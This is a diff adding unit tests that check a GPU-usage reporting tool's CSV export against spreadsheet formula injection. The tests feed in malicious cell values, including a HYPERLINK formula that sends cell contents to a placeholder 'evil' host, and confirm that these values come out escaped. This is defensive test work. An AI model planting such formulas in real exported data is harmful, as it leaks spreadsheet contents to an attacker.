@@ -18,7 +18,7 @@ from reports_helpers import HANDMADE, cache_store, utc
 
 from gpuguard.cli import main
 from gpuguard.reports.queries import Rates, run_reports
-from gpuguard.reports.render import duration, render
+from gpuguard.reports.render import csv_cell, duration, render
 from gpuguard.reports.sync import import_file, import_text
 
 SINCE, UNTIL = utc("2025-03-01T00:00:00"), utc("2025-04-01T00:00:00")
@@ -76,6 +76,29 @@ def test_csv_several_tables_in_sections(data):
     assert pend[1:] == [["group", "jobs", "not_eligible", "mean_current_s", "max_current_s"],
                         ["chem", "1", "1", "129600.0", "129600.0"], ["physics", "1", "0", "21600.0", "21600.0"]]
 
+
+
+def test_csv_cell_prefixes_formulas_but_not_numbers():
+    cells = ["=1+1", "+acct", "-2+3", "@SUM(1+1)", "\tx", "\rx", "-2", "+3.5", "-1e3", "-.5", "-", "-inf",
+             "plain", "a=b", "", None, -2, -2.5, 0]
+    assert [csv_cell(c) for c in cells] == [
+        "'=1+1", "'+acct", "'-2+3", "'@SUM(1+1)", "'\tx", "'\rx", "-2", "+3.5", "-1e3", "-.5", "'-", "'-inf",
+        "plain", "a=b", "", "", -2, -2.5, 0]
+
+
+def test_csv_output_neutralises_formula_injection(cstore):
+    head = "JobIDRaw|JobID|JobName|User|Account|State|Start|End|ElapsedRaw|AllocTRES|AllocCPUS\n"
+    body = "".join(f"{i}|{i}|n|{user}|{acct}|COMPLETED|2025-03-02T00:00:00|2025-03-02T01:00:00|3600|"
+                   f"cpu=1,gres/gpu=1|1\n" for i, user, acct in [
+                       (1, '=HYPERLINK("http://evil/?"&A1;"click")', "@SUM(1+1)"),
+                       (2, "+u", "-2+3"), (3, "-5", "ok")])
+    assert import_text(cstore, head + body, tz=UTC).malformed == []
+    for by, expect in [("account", ["'-2+3", "'@SUM(1+1)", "ok", "TOTAL"]),
+                       ("user", ["'+u", "'=HYPERLINK(\"http://evil/?\"&A1;\"click\")", "-5", "TOTAL"])]:
+        reps = run_reports(cstore, ["cost"], since=SINCE, until=UNTIL, by=by)
+        rows = list(csv.reader(io.StringIO(render(reps, "csv", UTC, GEN))))
+        assert [*sorted(r[0] for r in rows[1:-1]), rows[-1][0]] == expect
+        assert [r[1:3] for r in rows[1:]] == [["1", "1.0"]] * 3 + [["3", "3.0"]]
 
 def test_text(data):
     text = render(run_reports(data, ["cost"], since=SINCE, until=UNTIL), "text", UTC, GEN)
